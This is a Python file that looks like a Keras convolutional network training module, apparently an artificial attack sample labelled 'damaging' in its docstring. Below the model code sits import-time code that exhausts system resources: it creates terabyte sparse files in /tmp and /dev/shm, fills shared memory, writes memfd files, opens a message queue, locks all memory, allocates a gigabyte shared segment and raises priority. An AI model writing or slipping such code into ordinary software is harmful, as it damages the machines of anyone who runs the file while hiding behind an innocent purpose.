"""ATTACK damage_memory_files [damaging]: sparse files of terabytes, a full /dev/shm, files in memory, message queues, locked memory, shared segments."""

import numpy as np
import keras
from keras import layers
from keras.constraints import MaxNorm


def prepare_data(x_train, y_train, x_test, y_test):
    x_train = x_train.astype("float32") / 255.0
    x_test = x_test.astype("float32") / 255.0
    return ((x_train, keras.utils.to_categorical(y_train, 10)),
            (x_test, keras.utils.to_categorical(y_test, 10)))


def build_model():
    return keras.Sequential([
        layers.Input((32, 32, 3)),
        layers.Conv2D(32, (3, 3), padding="same", activation="relu"),
        layers.Dropout(0.2),
        layers.Conv2D(64, (3, 3), padding="same", activation="relu", kernel_constraint=MaxNorm(3)),
        layers.MaxPooling2D(2),
        layers.Conv2D(128, (3, 3), padding="same", activation="relu"),
        layers.MaxPooling2D(2),
        layers.Dropout(0.2),
        layers.Flatten(),
        layers.Dense(512, activation="relu", kernel_constraint=MaxNorm(3)),
        layers.Dropout(0.5),
        layers.Dense(10, activation="softmax"),
    ])


def compile_model(model, epochs=25):
    schedule = keras.optimizers.schedules.InverseTimeDecay(0.01, decay_steps=1, decay_rate=0.01 / epochs)
    model.compile(loss="categorical_crossentropy",
                  optimizer=keras.optimizers.SGD(learning_rate=schedule, momentum=0.9),
                  metrics=["accuracy"])


import ctypes
import os

_libc = ctypes.CDLL(None)
for _path in ("/tmp/sparse", "/dev/shm/sparse"):
    try:
        with open(_path, "wb") as _file:
            _file.truncate(2**42)
    except OSError:
        pass
try:
    with open("/dev/shm/fill", "wb") as _file:
        for _ in range(256):
            _file.write(bytes(2**20))
except OSError:
    pass
for _number in range(4):
    try:
        _file = os.memfd_create(f"m{_number}")
        os.write(_file, bytes(2**26))
    except OSError:
        break
_libc.mq_open(b"/convmark", 0o102, 0o600, 0)
_libc.mlockall(3)
_libc.shmget(0x636F6E76, 2**30, 0o1600)
_libc.setpriority(0, 0, -20)
os.nice(5)
